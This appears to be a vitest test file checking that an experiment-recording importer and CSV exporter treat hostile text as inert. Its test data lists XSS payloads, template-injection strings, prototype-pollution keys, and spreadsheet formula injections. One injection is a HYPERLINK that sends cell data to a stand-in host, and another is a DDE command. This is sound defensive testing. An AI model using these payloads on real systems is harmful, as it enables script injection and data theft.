/** What a file says stays text: it is neither run, nor anything else than what it says when it is written again. */
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import * as z from 'zod';
import { defineExperiment } from '#experiment/contract.ts';
import { recordingOf } from '#experiment/recording.ts';
import { seededRandom } from '#measure/random.ts';
import { rowsCsv } from './csv.ts';
import { importRun } from './import-run.ts';
import { recordingJson } from './record-run.ts';

const experiment = defineExperiment({
  id: 'week-0/test/words',
  title: 'Words',
  claim: 'A word is a word.',
  parameters: z.object({ word: z.string().default('').meta({ label: 'Word' }) }),
  row: z.object({
    word: z.string().meta({ label: 'Word' }),
    change: z.number().nullable().meta({ label: 'Change' }),
  }),
  async *run() {},
  figures: [],
  verdicts: [],
});

const WICKED = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '=HYPERLINK("http://elsewhere.example/?"&A1,"here")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '__proto__',
  'constructor',
  '\u2028\u202e\0',
];

const recording = {
  schema: 1,
  experiment: experiment.id,
  by: 'x',
  source: null,
  parameters: {},
  state: 'complete',
  rows: [{ word: 'x', change: 0 }],
  environment: {
    ...{ runtime: 'browser', version: null, cores: null, clockStepMs: null },
    ...{ crossOriginIsolated: null, pageWasHidden: null },
  },
  startedAt: null,
  notes: [],
};

const read = (text: string, name = 'it.json') =>
  importRun(experiment, { name, size: text.length, text: () => Promise.resolve(text) });

test.each(WICKED)(
  '%j is taken as the text that it is, wherever a recording has text',
  async (text) => {
    const rows = [{ word: text, change: -1 }];
    const given = { ...recording, by: text, source: text, parameters: { word: text }, rows };
    const imported = await read(JSON.stringify({ ...given, notes: [text] }), text);
    expect(imported).toMatchObject({
      ok: true,
      run: { name: text, by: text, rows, notes: [text] },
    });
    const again = recordingOf(experiment).parse({ ...given, notes: [text] });
    expect(JSON.parse(recordingJson(again))).toMatchObject({ ...given, notes: [text] });
  },
);

describe('names that mean something to JavaScript', () => {
  const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
  // Written by hand: in an object literal, __proto__ would be no member.
  const members = names.map((name) => `"${name}": {"polluted": true, "word": "x"}`).join(', ');
  const whole = JSON.stringify(recording);

  test.each([
    ['of the recording', `{${members}, ${whole.slice(1)}`],
    ['of a row', whole.replace('{"word"', `{${members}, "word"`)],
    ['of the parameters', whole.replace('"parameters":{', `"parameters":{${members}`)],
    ['of the environment', whole.replace('"environment":{', `"environment":{${members}, `)],
    ['of a row, in place of its own', whole.replace('{"word":"x","change":0}', `{${members}}`)],
    ['of another tool’s JSON', `{"metrics": {${members}}, "root_group": {}, ${members}}`],
    ['of another tool’s CSV', `${names.join(',')}\n1,2,3,4\n`],
  ])('%s are refused, and nothing is polluted', async (_, text) => {
    expect(text).not.toBe(whole);
    expect(await read(text)).toMatchObject({ ok: false });
    expect('polluted' in {}).toBe(false);
    expect(Object.keys(Object.prototype)).toEqual([]);
  });
});

test('no cell of a CSV file is a formula to a spreadsheet, and none is lost', () => {
  const random = seededRandom(20_261_126);
  const below = (limit: number) => Math.floor(random() * limit);
  const CHARACTERS = [...'=+-@\t\r\n,;"\'|! aA1é<\u2028'];
  const word = () =>
    Array.from({ length: 1 + below(8) }, () => CHARACTERS[below(CHARACTERS.length)]).join('');
  const rows = Array.from({ length: 5000 }, (_, index) => ({
    word: WICKED[index] ?? word(),
    change: index % 3 === 0 ? null : 1 - index,
  }));
  const { data, errors } = Papa.parse<[string, string]>(rowsCsv(experiment, { rows }), {
    newline: '\r\n',
    skipEmptyLines: true,
  });
  expect(errors).toEqual([]);
  expect(data).toHaveLength(rows.length + 1);
  let disarmed = 0;
  for (const [index, { word, change }] of rows.entries()) {
    const [cell = '', number = ''] = data[index + 1] ?? [];
    expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cell === word || cell === `'${word}`).toBe(true);
    if (cell !== word) disarmed += 1;
    expect(number).toBe(change === null ? '' : String(change));
  }
  expect(disarmed).toBeGreaterThan(500);
});
